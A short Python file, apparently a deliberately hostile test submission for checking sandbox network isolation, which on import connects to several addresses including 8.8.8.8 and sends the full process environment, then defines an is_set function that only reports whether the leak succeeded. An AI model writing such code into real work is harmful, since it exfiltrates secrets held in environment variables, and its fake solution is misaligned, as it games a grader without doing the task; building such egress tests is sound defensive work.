"""Leak: send the inputs and the environment out over the network (the test listens on
127.0.0.1:LISTEN_PORT), and look for any other address."""
import os
import socket

SENT = False
for host in ("127.0.0.1", "::1", "10.0.2.2", "8.8.8.8"):
    try:
        with socket.create_connection((host, int("LISTEN_PORT")), timeout=1) as s:
            s.sendall(repr(dict(os.environ)).encode())
            SENT = True
    except (OSError, ValueError):
        pass


def is_set(cards):
    return SENT
